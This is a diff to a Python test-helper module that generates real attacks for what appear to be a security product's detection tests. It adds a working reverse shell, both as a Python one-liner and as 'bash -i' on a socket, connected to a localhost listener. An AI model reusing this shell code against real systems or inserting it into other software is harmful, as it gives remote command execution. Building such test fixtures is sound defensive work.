@@ -1,15 +1,19 @@
-"""Real attacks on protected files, shared by the web tamper protection and ransomware tests: a writer
-that clears the immutable flag first, and an encrypting script over a tree of documents."""
+"""Real attacks shared by the tests: on protected files (web tamper protection and ransomware) a writer
+that clears the immutable flag first and an encrypting script over a tree of documents; on processes
+(process threats) reverse shells connected to a local listener."""
 
 from __future__ import annotations
 
 import random
 import shutil
+import socket
 import subprocess
 import sys
 import tempfile
+import time
 from collections.abc import Iterator, Sequence
 from contextlib import contextmanager
+from dataclasses import dataclass
 from pathlib import Path
 
 # Clears the flag with the ioctl and writes at once, like an attacker who holds CAP_LINUX_IMMUTABLE;
@@ -92,3 +96,65 @@ def originals(docs: Path) -> dict[str, bytes]:
         for p in docs.rglob("*")
         if p.is_file() and not p.name.startswith(".") and "cache" not in p.parts
     }
+
+
+# Connects back to argv[1] on 127.0.0.1 itself and runs a shell on the socket: a reverse shell with no
+# bash redirection, only an interpreter.
+PY_SHELL = (
+    "import os,socket,subprocess,sys; s=socket.create_connection(('127.0.0.1', int(sys.argv[1])));"
+    " [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; subprocess.call(['/bin/sh', '-i'])"
+)
+
+
+@dataclass
+class ReverseShell:
+    """A running reverse shell, the attacker's end of its connection and when it was started (wall clock
+    and monotonic, taken just before the shell process)."""
+
+    shell: subprocess.Popen[bytes]
+    attacker: socket.socket
+    port: int
+    started: float
+    started_mono: float
+
+    def wait_hung_up(self, timeout: float) -> None:
+        """Read the attacker's end until the shell's end goes away (the shell was killed)."""
+        self.attacker.settimeout(timeout)
+        while self.attacker.recv(4096):
+            pass
+
+
+@contextmanager
+def reverse_shell(python: bool = False, timeout: float = 15.0) -> Iterator[ReverseShell]:
+    """A reverse shell to a listener on 127.0.0.1: ``bash -i`` with the connected socket as its stdio, or
+    (``python``) an interpreter that connects by itself (``PY_SHELL``). Killed and closed on exit."""
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(1)
+    port = listener.getsockname()[1]
+    try:
+        if python:
+            started, started_mono = time.time(), time.monotonic()
+            shell = subprocess.Popen([sys.executable, "-c", PY_SHELL, str(port)], start_new_session=True)
+            attacker, _ = listener.accept()
+        else:
+            client = socket.create_connection(("127.0.0.1", port))
+            attacker, _ = listener.accept()
+            started, started_mono = time.time(), time.monotonic()
+            with client:
+                shell = subprocess.Popen(
+                    ["bash", "-i"],
+                    stdin=client.fileno(),
+                    stdout=client.fileno(),
+                    stderr=client.fileno(),
+                    start_new_session=True,
+                )
+        try:
+            yield ReverseShell(shell, attacker, port, started, started_mono)
+        finally:
+            if shell.poll() is None:
+                shell.kill()
+            shell.wait(timeout)
+            attacker.close()
+    finally:
+        listener.close()
